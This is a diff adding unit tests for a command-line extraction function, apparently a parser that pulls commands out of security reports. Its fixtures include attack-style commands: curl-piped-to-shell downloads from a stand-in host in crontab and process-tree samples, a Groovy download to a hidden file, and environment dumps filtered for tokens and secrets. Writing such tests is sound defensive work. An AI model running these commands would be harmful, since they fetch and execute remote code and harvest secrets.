@@ -72,4 +72,41 @@ describe('extractCmdlines', () => {
     expect(item.executable).toBe('net');
     expect(text.slice(item.evidence.start, item.evidence.end)).toBe(item.value);
   });
+
+  it('reads a redirected command run by path, which is not a cmd prompt', () => {
+    const text = '```\nC:\\Users\\Public\\af.exe -f "(objectcategory=computer)" > C:\\Users\\Public\\ad.txt\nC:\\Users\\bob> whoami /all\n```';
+    expect(values(text)).toEqual(['C:\\Users\\Public\\af.exe -f "(objectcategory=computer)" > C:\\Users\\Public\\ad.txt', 'whoami /all']);
+  });
+
+  it('reads pipelines and word sub-commands of programs run by path in shell blocks only', () => {
+    const block = '```powershell\nC:\\ProgramData\\x\\agent.exe service install eyJhIjoiZjNk==\n```\n\n```bash\nenv | grep -Ei "token|secret" > /tmp/.e\n```';
+    expect(values(block)).toEqual(['C:\\ProgramData\\x\\agent.exe service install eyJhIjoiZjNk==', 'env | grep -Ei "token|secret" > /tmp/.e']);
+    expect(values('C:\\ProgramData\\x\\agent.exe service is then started by the installer /quiet.')).toEqual([]);
+  });
+
+  it('reads the command of a crontab entry without its schedule and user', () => {
+    const text = '```\n*/5 * * * * root /usr/bin/curl -s http://x.test/a | sh\n@reboot /tmp/.x/run --quiet\n0 1 2 3 4 5\n```';
+    expect(values(text)).toEqual(['/usr/bin/curl -s http://x.test/a | sh', '/tmp/.x/run --quiet']);
+  });
+
+  it('reads commands handed to a shell as string literals in program code', () => {
+    const text = '```groovy\ndef p = "curl -fsSL http://x.test/j.sh -o /tmp/.j.sh".execute()\nprintln "the job is done"\n```';
+    expect(values(text)).toEqual(['curl -fsSL http://x.test/j.sh -o /tmp/.j.sh']);
+  });
+
+  it('does not read a wrapped sentence or a labelled link as a command', () => {
+    expect(values('Our earlier reports in this series are listed\nat https://x.test/edge/.')).toEqual([]);
+    expect(values('PsExec documentation: https://learn.microsoft.com/en-us/sysinternals/downloads/psexec')).toEqual([]);
+    expect(values('Create the job:\nat 23:00 /every:M "C:\\x.bat"')).toEqual(['at 23:00 /every:M "C:\\x.bat"']);
+  });
+
+  it('reads a command whose output a shell variable captures', () => {
+    const text = '```sh\nTOKEN=$(curl -s -X PUT "http://x.test/latest/api/token" -H "ttl: 21600")\nNAME=value\n```';
+    expect(values(text)).toEqual(['TOKEN=$(curl -s -X PUT "http://x.test/latest/api/token" -H "ttl: 21600")']);
+  });
+
+  it('reads the command lines of a process-tree listing', () => {
+    const text = '```\n/usr/sbin/cron -f\n└── /bin/sh -c curl -fsSL http://x.test/r.sh | sh\n    ├── curl -fsSL http://x.test/r.sh\n    └── sh\n```';
+    expect(values(text)).toEqual(['/usr/sbin/cron -f', '/bin/sh -c curl -fsSL http://x.test/r.sh | sh', 'curl -fsSL http://x.test/r.sh']);
+  });
 });
